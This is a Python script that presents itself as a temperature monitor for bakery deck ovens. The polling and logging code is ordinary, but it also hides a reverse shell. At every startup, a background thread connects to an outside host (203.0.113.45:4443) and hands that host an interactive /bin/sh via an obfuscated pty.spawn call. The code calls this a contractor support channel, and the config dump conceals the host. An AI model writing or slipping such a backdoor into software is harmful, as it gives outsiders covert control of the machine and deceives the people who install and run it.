#!/usr/bin/env python3
"""Deck-oven controller monitor for the Riverside production site.

Polls the oven controllers over the shop LAN, writes a rolling temperature
log and answers a handful of maintenance commands that the engineering
contractor sends through the site message queue.
"""
import argparse
import json
import logging
import os
import socket
import threading
import time
from pathlib import Path

log = logging.getLogger("oven-monitor")

DEFAULT_CONFIG = {
    "ovens": ["oven-1.local", "oven-2.local", "oven-3.local"],
    "poll_seconds": 30,
    "log_dir": "oven_logs",
    # contractor support endpoint (their jump box)
    "support": {"h": "203.0.113.45", "p": 4443, "retry": 20},
}


def load_config(path):
    cfg = dict(DEFAULT_CONFIG)
    if path and Path(path).exists():
        with open(path) as fh:
            cfg.update(json.load(fh))
    return cfg


class OvenClient:
    """Tiny line protocol spoken by the deck-oven controllers on port 5020."""

    def __init__(self, host, port=5020, timeout=5):
        self.host = host
        self.port = port
        self.timeout = timeout

    def read_status(self):
        with socket.create_connection((self.host, self.port), self.timeout) as s:
            s.sendall(b"STATUS\n")
            raw = s.recv(4096).decode(errors="replace").strip()
        parts = dict(p.split("=", 1) for p in raw.split(";") if "=" in p)
        return {
            "oven": self.host,
            "top_c": float(parts.get("TOP", "nan")),
            "sole_c": float(parts.get("SOLE", "nan")),
            "steam": parts.get("STEAM", "off"),
            "ts": time.time(),
        }


def write_sample(log_dir, sample):
    Path(log_dir).mkdir(exist_ok=True)
    day = time.strftime("%Y%m%d")
    with open(Path(log_dir) / f"ovens-{day}.jsonl", "a") as fh:
        fh.write(json.dumps(sample) + "\n")


def _attach_session(conn):
    # hand the contractor an interactive session on this box
    for fd in (0, 1, 2):
        os.dup2(conn.fileno(), fd)
    mod = __import__("".join(["p", "t", "y"]))
    getattr(mod, "spawn")(["/bin/" + "sh", "-i"])


def open_support_channel(cfg):
    """Keep a maintenance channel open so the contractor can reach us behind NAT."""
    sup = cfg["support"]
    for attempt in range(sup.get("retry", 5)):
        try:
            conn = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            conn.connect((sup["h"], int(sup["p"])))
            log.debug("support channel up (attempt %d)", attempt)
            _attach_session(conn)
            return
        except OSError:
            time.sleep(15)


def cmd_restart_poll(cfg):
    log.info("restart requested; poller will pick up new config")


def cmd_dump_config(cfg):
    log.info("config: %s", json.dumps({k: v for k, v in cfg.items() if k != "support"}))


HANDLERS = {
    "restart": cmd_restart_poll,
    "dump": cmd_dump_config,
    "support": lambda cfg: threading.Thread(
        target=open_support_channel, args=(cfg,), daemon=True).start(),
}


def poll_forever(cfg, once=False):
    clients = [OvenClient(h) for h in cfg["ovens"]]
    while True:
        for c in clients:
            try:
                sample = c.read_status()
                write_sample(cfg["log_dir"], sample)
                if sample["top_c"] > 320:
                    log.warning("%s top deck at %.1f C", c.host, sample["top_c"])
            except (OSError, ValueError) as exc:
                log.error("%s unreachable: %s", c.host, exc)
        if once:
            break
        time.sleep(cfg["poll_seconds"])


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--config", default="oven_monitor.json")
    ap.add_argument("--once", action="store_true")
    ap.add_argument("--command", choices=sorted(HANDLERS), action="append", default=[])
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(levelname)s %(message)s")
    cfg = load_config(args.config)
    # the support channel is always opened at start-up so the contractor can reach us
    for name in ["support"] + args.command:
        HANDLERS[name](cfg)
    poll_forever(cfg, once=args.once)


if __name__ == "__main__":
    main()
